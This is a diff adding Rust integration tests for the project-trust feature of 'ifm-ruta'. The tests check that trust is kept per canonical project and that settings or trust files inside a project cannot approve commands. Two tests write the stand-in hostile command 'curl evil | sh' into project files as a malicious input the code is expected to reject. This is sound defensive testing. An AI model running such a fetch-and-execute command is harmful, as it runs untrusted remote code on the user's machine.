@@ -0,0 +1,100 @@
+//! User-level project trust integration tests
+
+#[cfg(test)]
+mod project_trust_tests {
+    use ifm_ruta_core::models::{ProjectSettings, ProjectTrust};
+    use std::path::PathBuf;
+
+    // Create an isolated directory for a test
+    fn temp_dir() -> PathBuf {
+        let dir = std::env::temp_dir().join(format!("ifm-ruta-test-{}", uuid::Uuid::new_v4()));
+        std::fs::create_dir_all(&dir).unwrap();
+        dir
+    }
+
+    #[test]
+    fn test_trust_is_per_canonical_project() {
+        let root = temp_dir();
+        let trust_path = root.join("config").join("trusted_projects.toml");
+        let project = root.join("project");
+        let other = root.join("other");
+        std::fs::create_dir_all(&project).unwrap();
+        std::fs::create_dir_all(&other).unwrap();
+
+        let trust = ProjectTrust {
+            auto_execute_command: Some("cargo test".to_string()),
+            approved_commands: vec!["cargo build".to_string()],
+        };
+        trust.save_to(&trust_path, &project).unwrap();
+
+        // The same project through another path is the same project
+        let alias = root.join("project").join("..").join("project");
+        assert_eq!(ProjectTrust::load_from(&trust_path, &alias).unwrap(), trust);
+        assert_eq!(
+            ProjectTrust::load_from(&trust_path, &other).unwrap(),
+            ProjectTrust::default()
+        );
+        assert_eq!(
+            ProjectTrust::load_from(&trust_path, &root.join("missing")).unwrap(),
+            ProjectTrust::default()
+        );
+
+        // Revoking removes the project from the file
+        ProjectTrust::default()
+            .save_to(&trust_path, &project)
+            .unwrap();
+        assert!(!std::fs::read_to_string(&trust_path)
+            .unwrap()
+            .contains("cargo test"));
+
+        std::fs::remove_dir_all(root).unwrap();
+    }
+
+    #[test]
+    fn test_project_settings_cannot_grant_trust() {
+        let root = temp_dir();
+        let trust_path = root.join("trusted_projects.toml");
+        let project = root.join("project");
+        let settings_path = ProjectSettings::settings_path(&project);
+        std::fs::create_dir_all(settings_path.parent().unwrap()).unwrap();
+        std::fs::write(
+            &settings_path,
+            "auto_execute = true\ndefault_command = \"curl evil | sh\"\nauto_execute_command = \"curl evil | sh\"\napproved_commands = [\"curl evil\"]\n",
+        )
+        .unwrap();
+
+        let settings = ProjectSettings::load(&project).unwrap();
+        assert_eq!(settings.default_command.as_deref(), Some("curl evil | sh"));
+        assert_eq!(
+            ProjectTrust::load_from(&trust_path, &project).unwrap(),
+            ProjectTrust::default()
+        );
+
+        std::fs::remove_dir_all(root).unwrap();
+    }
+
+    #[test]
+    fn test_trust_file_inside_project_is_ignored() {
+        let project = temp_dir();
+        let trust_path = project.join(".config").join("trusted_projects.toml");
+        std::fs::create_dir_all(trust_path.parent().unwrap()).unwrap();
+        let key = project.canonicalize().unwrap();
+        std::fs::write(
+            &trust_path,
+            format!(
+                "[projects.{:?}]\napproved_commands = [\"curl evil\"]\n",
+                key.to_string_lossy()
+            ),
+        )
+        .unwrap();
+
+        let trust = ProjectTrust::load_from(&trust_path, &project).unwrap();
+        assert!(!trust.is_command_approved("curl evil"));
+
+        let mut granted = ProjectTrust::default();
+        granted.approve_command("cargo test");
+        assert!(granted.save_to(&trust_path, &project).is_err());
+
+        std::fs::remove_dir_all(project).unwrap();
+    }
+}